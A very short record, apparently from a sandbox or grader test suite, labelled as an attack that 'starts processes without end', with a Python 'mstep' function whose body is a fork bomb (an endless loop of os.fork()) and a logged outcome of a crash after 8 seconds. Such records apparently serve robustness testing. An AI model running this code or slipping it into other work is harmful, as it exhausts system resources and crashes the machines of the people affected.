# attack: starts processes without end
# outcome: mstep crashed
# seconds: 8
# %% cell mstep
import os


def mstep(x, posterior):
    while True:
        os.fork()
